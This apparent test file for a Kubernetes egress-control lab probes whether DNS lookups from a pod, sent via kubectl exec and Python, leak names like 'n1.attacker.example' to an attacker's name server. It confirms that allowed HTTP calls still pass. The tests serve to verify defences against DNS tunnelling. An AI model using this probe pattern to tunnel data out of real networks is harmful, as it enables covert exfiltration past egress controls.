import assert from "node:assert/strict";
import { python, quote } from "../../attack/attempts/shell";
import { runningPod } from "../../demo/kubectl";
import { intentOf } from "../../demo/stackFile";
import { internetLog } from "../../lab";
import { eventuallyResolved } from "../support/eventually";
import { kubectl } from "./support/cluster";
import { demoSettings, demoUp } from "./support/stack";
import { eventuallyCalls } from "./support/traffic";

/** The address that a Service has, so that giving it changes nothing. */
function addressOf(namespace: string, service: string): Promise<string> {
  return kubectl(["get", "service", "-n", namespace, service, "-o", "jsonpath={.spec.clusterIP}"]);
}

async function restart(): Promise<void> {
  for (const app of ["app-a", "app-b"]) await kubectl(["rollout", "restart", "-n", "test-app", `deployment/${app}`]);
  for (const app of ["app-a", "app-b"])
    await kubectl(["rollout", "status", "-n", "test-app", `deployment/${app}`, "--timeout=90s"]);
}

/** Asks the pod's resolver for a name, and whether the question reached the attacker's name server. */
async function leaks(name: string): Promise<boolean> {
  const since = new Date();
  const pod = await runningPod(kubectl, "test-app", { app: "app-a" });
  const ask = python(`
import socket
try: print(socket.getaddrinfo(${JSON.stringify(name)}, 80)[0][4])
except OSError as error: print(error)
`);
  await kubectl(["exec", "-i", "-n", "test-app", pod, "-c", "app", "--", "sh", "-c", `timeout 5 sh -c ${quote(ask)}`]);
  return internetLog(since).some((event) => event.protocol === "dns" && event.name === name);
}

describe("lab: without the cluster's DNS", function () {
  this.timeout(300_000);
  before(async () => {
    await demoUp();
  });
  after(async () => {
    await demoUp();
    await restart();
  });

  it("lets names tunnel out while the cluster's DNS may be asked: the stated limit", async () => {
    assert.equal(await leaks("before.attacker.example"), true);
  });

  it("starts pods, lets allowed calls pass and no foreign name out", async () => {
    const { gateways } = intentOf(demoSettings());
    const addresses = await Promise.all(
      gateways.map(async ({ name, service }) => [name, { clusterIp: await addressOf("external", service) }] as const),
    );
    await demoUp({
      guards: { clusterDns: false },
      istio: { discoveryIp: await addressOf("istio-system", "istiod") },
      gateways: Object.fromEntries(addresses),
    });
    await restart();
    await eventuallyCalls("test-app/app-a", {
      "http://github.com": "HTTP 200",
      "https://www.github.com": "HTTP 200",
      "http://www.httpbin.org": "HTTP 200",
    });
    await eventuallyCalls("test-app/app-b", { "http://google.com": "HTTP 200", "https://google.com": "HTTP 200" });
    let asked = 0;
    await eventuallyResolved("foreign names stay inside", async () =>
      (await leaks(`n${++asked}.attacker.example`)) ? "a name got out" : undefined,
    );
    for (const name of ["after.attacker.example", "more.attacker.example"]) assert.equal(await leaks(name), false);
  });
});
